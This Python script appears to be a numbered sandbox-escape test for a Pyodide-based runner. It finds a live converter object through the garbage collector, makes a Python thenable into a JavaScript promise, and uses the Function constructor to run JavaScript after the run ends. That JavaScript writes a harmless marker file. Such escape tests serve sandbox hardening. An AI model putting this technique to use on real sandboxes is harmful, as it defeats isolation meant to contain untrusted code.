# Attack: a converter object Pyodide keeps alive makes a Python object with a `then` method into a JavaScript promise; JavaScript calls `then(resolve, reject)` after the run is over, untraced, handing over JavaScript functions (and so Function). Where Function may make code (Node), it leaves a marker file.
# Prints "armed: ..." when the promise was made (the attack then waits for the run to end), "blocked: ..." when it could not be.
import asyncio, gc

class Thenable:
    def then(self, resolve, reject):
        # print() goes nowhere once the run is over, and the program's globals are gone: the
        # marker file, named here in full, is the evidence.
        leave_marker = resolve.constructor(
            "const fs = globalThis.process?.getBuiltinModule?.('node:fs');"
            "if (fs) fs.writeFileSync('/tmp/looplab-attack-31-escaped', 'then() ran after the run');"
        )
        leave_marker()


def converter():
    gc.unfreeze()
    found = [o for o in gc.get_objects() if type(o).__name__ == "Js2PyConverter"]
    if not found:
        raise LookupError("no converter")
    return found[0]


async def main():
    global pending  # kept alive past the run
    try:
        pending = converter().js2py_convert(Thenable())
    except BaseException as error:  # noqa: BLE001 - any failure is an expected outcome
        print(f"blocked: a converter makes a thenable into a promise: {type(error).__name__}")
    else:
        print(f"armed: {type(pending).__name__}")


asyncio.run(main())
